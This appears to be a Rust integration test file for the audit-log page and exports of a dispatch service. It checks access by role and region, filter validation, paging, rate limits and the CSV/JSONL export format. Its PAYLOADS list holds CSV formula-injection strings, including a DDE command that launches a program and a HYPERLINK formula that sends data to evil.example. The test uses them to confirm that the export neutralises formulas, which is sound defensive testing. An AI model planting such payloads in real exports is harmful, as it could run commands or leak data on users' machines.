//! The auditor's page and exports: who may read, what is found, what can not be used, and files that are safe to open.

use std::collections::BTreeSet;

use dispatch_desk::domain::{
    command::{Act, Actor, Role},
    id::{RegionId, StaffId},
};
use reqwest::{Method, StatusCode, header};
use serde_json::Value;

use crate::{
    browser::{Browser, Page, select, words_of},
    harness::{
        ADMIN, AUDITOR, CANCEL, D1, Desk, FOREIGN_DISPATCHER, GRAB, NORTH, RIDERS, SOUTH,
        SUPERVISOR, Site, for_each_database, offer, order, rider,
    },
};

/// The rows of the table, each as it is read.
fn rows(page: &Page) -> Vec<String> {
    page.document().select(&select("tbody tr")).map(words_of).collect()
}

/// The numbers of the rows: `Change 3`, `Attempt 5`.
fn numbers(page: &Page) -> Vec<String> {
    page.document().select(&select("tbody td:nth-child(2)")).map(words_of).collect()
}

/// An auditor of the south.
async fn southern_auditor(site: &Site) -> Actor {
    let mut tx = site.desk.db.begin().await.unwrap();
    tx.add_staff(StaffId(50), "Sam", Role::Auditor, &[SOUTH]).await.unwrap();
    tx.commit().await.unwrap();
    Actor::Staff(StaffId(50))
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn auditors_and_admins_read_the_log_and_nobody_else_does() {
    let site = Site::open().await;
    for actor in [AUDITOR, ADMIN] {
        let mut reader = Browser::enter(&site, &actor).await;
        let board = reader.get("/board").await;
        assert!(board.html.contains("href=\"/audit\""), "{actor:?} is led there");
        reader.get("/audit").await.is(200);
        reader.get("/audit/export.csv").await.is(200);
        reader.get("/audit/export.jsonl").await.is(200);
    }
    for actor in [D1, SUPERVISOR, FOREIGN_DISPATCHER] {
        let mut other = Browser::enter(&site, &actor).await;
        let board = other.get("/board").await;
        board.hides("href=\"/audit\"");
        for path in ["/audit", "/audit/export.csv", "/audit/export.jsonl"] {
            other.get(path).await.is(403).says("Your role may not do this.");
        }
    }
    let mut nobody = Browser::new(&site);
    for path in ["/audit", "/audit/export.csv"] {
        let page = nobody.get(path).await;
        assert!(page.path.starts_with("/sign-in"), "{}", page.path);
    }
    site.close().await;
}

for_each_database!(every_filter_finds_what_it_says, |desk| async move {
    let site = Site::on(desk).await;
    let desk = &site.desk;
    let task = site.order(order()).await;
    desk.done(D1, task, 1, offer(7)).await;
    desk.done(rider(7), task, 2, Act::Accept).await;
    desk.advance_ms(120_000).await;
    let other = site.order(order()).await;
    desk.refused(rider(8), task, 3, GRAB, dispatch_desk::domain::refusal::Code::TakenByOther).await;
    desk.done(D1, other, 1, CANCEL).await;
    let mut ada = Browser::enter(&site, &AUDITOR).await;
    let all = ada.get("/audit").await;
    all.is(200).says("11 found, page 1 of 1").says("Nothing is sealed yet.");
    assert_eq!(numbers(&all).len(), 11);
    assert_eq!(numbers(&all)[0], "Attempt 6");
    assert!(rows(&all)[0].contains("staff 1 (D1) Cancel"), "{:?}", rows(&all));
    for (query, found) in [
        ("show=events", 5),
        ("show=attempts", 6),
        ("task=10001", 7),
        (&*format!("task={task}"), 7),
        ("rider=R7", 3),
        ("actor_kind=rider&actor=R7", 2),
        ("actor_kind=staff&actor=D1", 8),
        ("actor_kind=intake", 0),
        ("what=cancel", 2),
        ("what=TAKEN_BY_OTHER", 1),
        ("from=2026-11-30T12%3A02", 5),
        ("to=2026-11-30T12%3A02", 6),
        ("from=2026-11-30T12%3A01&to=2026-11-30T12%3A02", 0),
        ("region=G1", 11),
        ("show=events&task=T10001&what=offer&rider=7&actor_kind=staff&actor=1", 1),
    ] {
        let page = ada.get(&format!("/audit?{query}")).await;
        page.is(200).says(&format!("{found} found"));
        assert_eq!(rows(&page).len(), found, "{query}");
        if found == 0 {
            page.says("Nothing fits these filters.");
        }
    }
    site.seal().await;
    let sealed = ada.get("/audit").await;
    sealed.says("event 5").says("attempt 6").says("1:");
    site.close().await;
});

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_foreign_region_is_not_seen_whatever_is_asked() {
    let site = Site::open().await;
    let task = site.order(order()).await;
    site.desk.done(rider(7), task, 1, GRAB).await;
    let sam = southern_auditor(&site).await;
    let mut sam = Browser::enter(&site, &sam).await;
    for query in ["", "task=T10001", "rider=R7", "actor_kind=rider&actor=R7", "what=grab"] {
        let page = sam.get(&format!("/audit?show=events&{query}")).await;
        assert_eq!(rows(&page), Vec::<String>::new(), "{query}");
        let file = sam.get(&format!("/audit/export.jsonl?show=events&{query}")).await;
        file.is(200).hides("T10001");
    }
    sam.get("/audit?region=G1").await.is(422).says("Choose a region.");
    let file = sam.get("/audit/export.jsonl?region=G1").await;
    file.is(400).says("Choose a region.");
    // What it can see: what its own people did, its own exports among them.
    let page = sam.get("/audit").await;
    let read = rows(&page).join("\n");
    assert!(read.contains("Exported the log") && !read.contains("Grab"), "{read}");
    site.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_can_not_be_used_is_said_and_kept() {
    let site = Site::open().await;
    let mut ada = Browser::enter(&site, &AUDITOR).await;
    for (query, said) in [
        ("task=R1", "Task: Write a task's number"),
        ("rider=x", "Rider: "),
        ("actor_kind=ghost", "Who acted: Choose from the list."),
        ("actor=D1", "Their number or name: Choose who acted"),
        ("actor_kind=staff&actor=R1", "Their number or name: Choose who acted"),
        ("what=a%20b", "Action or code: "),
        ("from=soon", "From: Write a date and a time."),
        ("from=2026-11-30T12%3A00&to=2026-11-30T11%3A00", "Before: The end has to lie after"),
        ("before=x", "Page: The link is not complete"),
        ("task=%3Cscript%3E", "Task: "),
    ] {
        let page = ada.get(&format!("/audit?{query}")).await;
        page.is(422).says(said).hides("<script");
        let field = if query.starts_with("before") { "" } else { "[aria-invalid=true]" };
        if !field.is_empty() {
            assert_eq!(page.document().select(&select(field)).count(), 1, "{query}");
        }
    }
    let page = ada.get("/audit?task=R1&what=cancel").await;
    assert!(page.html.contains("value=\"R1\"") && page.html.contains("value=\"cancel\""));
    ada.get("/audit?more=1&task=").await.is(200);
    site.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_row_stands_on_one_page_and_on_one_alone() {
    let site = Site::open().await;
    let tasks = site.desk.create_many(40).await;
    for (task, number) in tasks.iter().zip((1..=RIDERS).cycle()).take(30) {
        site.desk.done(rider(number), *task, 1, GRAB).await;
    }
    let mut ada = Browser::enter(&site, &AUDITOR).await;
    let (mut path, mut seen, mut pages) = ("/audit?show=all".to_owned(), Vec::new(), 0);
    loop {
        let page = ada.get(&path).await;
        pages += 1;
        page.is(200).says(&format!("140 found, page {pages} of 3"));
        seen.extend(numbers(&page));
        let next = page
            .document()
            .select(&select("a[rel=next]"))
            .next()
            .map(|link| link.attr("href").unwrap_or_default().to_owned());
        match next {
            Some(next) => path = next,
            None => break,
        }
        // What happens meanwhile does not move the pages.
        site.desk.advance_ms(1_000).await;
    }
    assert_eq!((pages, seen.len()), (3, 140));
    assert_eq!(seen.iter().collect::<BTreeSet<_>>().len(), 140);
    site.close().await;
}

fn lines(page: &Page) -> Vec<Value> {
    page.html.lines().map(|line| serde_json::from_str(line).expect("a JSON line")).collect()
}

for_each_database!(an_export_holds_what_was_searched_and_the_head, |desk| async move {
    let site = Site::on(desk).await;
    let task = site.order(order()).await;
    site.desk.done(rider(7), task, 1, GRAB).await;
    site.desk
        .refused(rider(8), task, 1, GRAB, dispatch_desk::domain::refusal::Code::TakenByOther)
        .await;
    site.seal().await;
    let mut ada = Browser::enter(&site, &AUDITOR).await;
    let file = ada.get(&format!("/audit/export.jsonl?task={task}")).await;
    file.is(200);
    assert_eq!(file.headers[header::CONTENT_TYPE], "application/jsonl; charset=utf-8");
    assert_eq!(
        file.headers[header::CONTENT_DISPOSITION],
        "attachment; filename=\"audit-20261130T1200.jsonl\""
    );
    let found = lines(&file);
    let kinds: Vec<_> = found
        .iter()
        .map(|line| format!("{} {}", line["record"].as_str().unwrap(), line["number"]))
        .collect();
    assert_eq!(kinds, ["attempt 3", "attempt 2", "attempt 1", "event 2", "event 1", "head null"]);
    assert_eq!(found[0]["code"], "TAKEN_BY_OTHER");
    assert_eq!((&found[0]["region"], &found[0]["task"]), (&"G1".into(), &"T10001".into()));
    assert_eq!(found[3]["at"], "2026-11-30T12:00:00.000+08:00");
    assert_eq!((&found[3]["from_revision"], &found[3]["rider"]), (&1.into(), &"R7".into()));
    let last = site.desk.read().await.last_seal().await.unwrap().unwrap();
    assert_eq!(found[5]["head"], last.head().to_string());
    assert_eq!((&found[5]["rows"], &found[5]["last_event"]), (&5.into(), &2.into()));
    assert_eq!(dispatch_desk::domain::seal::Head::all_in(&file.html), [last.head()]);

    let file = ada.get(&format!("/audit/export.csv?task={task}&show=events")).await;
    file.is(200);
    assert_eq!(file.headers[header::CONTENT_TYPE], "text/csv; charset=utf-8; header=present");
    assert!(file.html.starts_with("\u{feff}\"record\",\"number\",\"at\""), "{}", file.html);
    let table: Vec<_> = file.html.split("\r\n").collect();
    assert_eq!((table.len(), table[4]), (5, ""));
    assert!(table[1].starts_with(
        "\"event\",2,\"2026-11-30T12:00:00.000+08:00\",1796011200000,\"G1\",\"T10001\",\"task\",10001,\"grab\",,\
         \"rider\",\"7\",\"R7\",1,2,,"
    ), "{}", table[1]);
    assert!(table[3].starts_with("\"head\",") && table[3].contains(&last.head().to_string()));
    // Both stand in the log, with the fields that were searched by, and not what stood in them.
    let page = ada.get("/audit?what=exported").await;
    page.says("2 found").says("staff 6 (D6)").says("Exported the log");
    page.says(r#""form":"csv","shown":"events","fields":"task""#).hides(&format!("task={task}"));
    site.close().await;
});

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn whoever_searches_without_end_waits_and_nobody_else() {
    let site = Site::open().await;
    let mut ada = Browser::enter(&site, &AUDITOR).await;
    for _ in 0..30 {
        ada.get("/audit?task=T10001").await.is(200);
    }
    let page = ada.get("/audit?task=T10001").await;
    page.is(429).says("TOO_MANY");
    assert_eq!(page.headers[header::RETRY_AFTER], "1");
    Browser::enter(&site, &ADMIN).await.get("/audit").await.is(200);
    ada.get("/board").await.is(200);
    site.desk.advance_ms(100).await;
    ada.get("/audit").await.is(200);
    ada.get("/audit").await.is(429);
    site.close().await;
}

/// What a spreadsheet would work out.
pub const PAYLOADS: [&str; 12] = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1+1)",
    "\t=1",
    "\r=1",
    "\n=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠sum(1)",
    "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")",
];

/// The export of a log in which each of [`PAYLOADS`] stands wherever a text comes from outside: the name of a source, the
/// reason that a script gives, the detail.
pub async fn export_of_payloads(site: &Site) -> String {
    let rows: Vec<_> = (1..).zip(PAYLOADS).map(|(number, text)| {
        let text = format!("'{}'", text.replace('\'', "''"));
        format!(
            "({number}, {text}, 'admin', -5, 1, {text}, 'intake', {text}, {text}, {text}, 1796011200000, 1, {text})"
        )
    }).collect();
    let insert = format!(
        "INSERT INTO dispatch_event (number, event_id, kind, subject, region_id, action, actor_kind, actor_id, reason, \
         key_hash, occurred_at, detail_version, detail) VALUES {}; UPDATE event_counter SET number = 12",
        rows.join(", ")
    );
    site.desk.sql(&insert, "").await;
    let mut ada = Browser::enter(site, &AUDITOR).await;
    ada.get("/audit/export.csv").await.html
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn no_text_in_an_export_is_a_formula() {
    let site = Site::open().await;
    let file = export_of_payloads(&site).await;
    // RFC 4180, as another program reads it.
    let text = file.strip_prefix('\u{feff}').expect("it says that it is UTF-8");
    let mut reader = csv::Reader::from_reader(text.as_bytes());
    let mut carried = [0; 12];
    for record in reader.records() {
        for cell in &record.expect("a row") {
            let is_number = cell.parse::<i64>().is_ok();
            let first = cell.chars().next().unwrap_or(' ');
            assert!(
                is_number || !"=+-@\t\r\n＝＋－＠".contains(first),
                "{cell:?} would be worked out"
            );
            for (count, payload) in carried.iter_mut().zip(PAYLOADS) {
                *count += usize::from(cell.strip_prefix('\'') == Some(payload));
            }
        }
    }
    assert!(carried.iter().all(|count| *count >= 5), "each in each text column: {carried:?}");
    // A number is one, and stands bare.
    assert!(text.contains(",-5,"));
    site.close().await;
}

/// A log that no socket holds at once.
async fn long_log(desk: &Desk) {
    desk.sql(
        "INSERT INTO dispatch_event (number, event_id, kind, subject, region_id, action, actor_kind, occurred_at, \
         detail_version, detail) WITH RECURSIVE n(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM n WHERE i < 60000) \
         SELECT i, 'e', 'rider', 1, 1, 'change', 'system', 1796011200000 + i, 1, \
         '{\"a\":\"' || hex(zeroblob(500)) || '\"}' FROM n; \
         UPDATE event_counter SET number = 60000",
        "",
    )
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn two_exports_at_once_are_enough_for_one_person() {
    let site = Site::open().await;
    long_log(&site.desk).await;
    let ada = Browser::enter(&site, &AUDITOR).await;
    let begin = async |browser: &Browser| {
        let request = browser.request(Method::GET, "/audit/export.jsonl");
        request.send().await.expect("an answer")
    };
    let (one, two) = (begin(&ada).await, begin(&ada).await);
    assert_eq!((one.status(), two.status()), (StatusCode::OK, StatusCode::OK));
    let third = begin(&ada).await;
    assert_eq!(third.status(), StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(third.headers()[header::RETRY_AFTER], "10");
    assert!(third.text().await.unwrap().contains("Two exports of yours are under way"));
    // Others are not kept from it.
    let admin = Browser::enter(&site, &ADMIN).await;
    assert_eq!(begin(&admin).await.status(), StatusCode::OK);
    // One that is given up makes room; the other is whole.
    drop(one);
    let mut tries = 0;
    while begin(&ada).await.status() == StatusCode::TOO_MANY_REQUESTS {
        tries += 1;
        assert!(tries < 10_000, "the turn does not come back");
    }
    let whole = two.text().await.unwrap();
    let last: Value = serde_json::from_str(whole.lines().last().unwrap()).unwrap();
    assert_eq!(last["record"], "head");
    assert!(whole.lines().count() > 60_000);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn an_export_is_cut_when_its_reader_is_shut_out() {
    let site = Site::open().await;
    long_log(&site.desk).await;
    let ada = Browser::enter(&site, &AUDITOR).await;
    let request = ada.request(Method::GET, "/audit/export.jsonl");
    let mut answer = request.send().await.expect("an answer");
    let mut taken = answer.chunk().await.unwrap().expect("a first piece").len();
    site.disable(6, true).await;
    let ended = loop {
        match answer.chunk().await {
            Ok(Some(piece)) => taken += piece.len(),
            other => break other,
        }
    };
    assert!(ended.is_err(), "nobody takes it for whole");
    // What lay in the sockets by then is gone; of 60 MB that is little.
    println!("{} KiB were taken", taken / 1_024);
    assert!(taken < 30_000_000, "{taken} bytes");
    site.close().await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_search_that_has_far_to_go_says_how_far_it_came() {
    let site = Site::open().await;
    long_log(&site.desk).await;
    let desk = &site.desk;
    desk.sql(
        "INSERT INTO dispatch_event (number, event_id, kind, subject, region_id, action, actor_kind, occurred_at, \
         detail_version, detail) WITH RECURSIVE n(i) AS (SELECT 60001 UNION ALL SELECT i + 1 FROM n WHERE i < 120000) \
         SELECT i, 'e', 'rider', 1, 1, 'other', 'system', 1796011200000 + i, 1, '{}' FROM n",
        "",
    )
    .await;
    let mut ada = Browser::enter(&site, &AUDITOR).await;
    let page = ada.get("/audit?what=nowhere").await;
    page.is(200).says("Nothing was found so far.").says("The search has looked back until");
    page.says("At least 0 found");
    let next = page
        .document()
        .select(&select("a[rel=next]"))
        .next()
        .map(|link| link.attr("href").unwrap_or_default().to_owned());
    let page = ada.get(&next.unwrap()).await;
    page.is(200).says("There is nothing beyond.");
    assert_eq!(page.document().select(&select("a[rel=next]")).count(), 0);
    assert_eq!(SOUTH, RegionId(2));
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn what_was_done_to_the_desk_names_what_it_was_done_to() {
    let site = Site::open().await;
    let event = |number: i64, subject: i64, action: &str, of: &str| {
        format!(
            "({number}, 'e', 'admin', {subject}, NULL, '{action}', 'staff', '5', 1796011200000, 1, '{{\"of\":\"{of}\"}}')"
        )
    };
    let rows_of = [
        event(1, 7, "staff-added", "staff"),
        event(2, 2, "region-changed", "region"),
        event(3, 10_001, "erased", "task"),
        event(4, 0, "rule-changed", "desk"),
    ];
    site.desk
        .sql(
            &format!(
                "INSERT INTO dispatch_event (number, event_id, kind, subject, region_id, action, actor_kind, actor_id, \
                 occurred_at, detail_version, detail) VALUES {}; UPDATE event_counter SET number = 4",
                rows_of.join(", ")
            ),
            "",
        )
        .await;
    let everywhere = Actor::Staff(StaffId(51));
    let mut tx = site.desk.db.begin().await.unwrap();
    tx.add_staff(StaffId(51), "Eve", Role::Auditor, &[NORTH, SOUTH]).await.unwrap();
    tx.commit().await.unwrap();
    let mut eve = Browser::enter(&site, &everywhere).await;
    let page = eve.get("/audit?actor_kind=staff&actor=D5").await;
    page.says("Added staff · D7").says("Changed a region · G2");
    page.says("Erased personal data · T10001").says("Changed a rule of the desk");
}
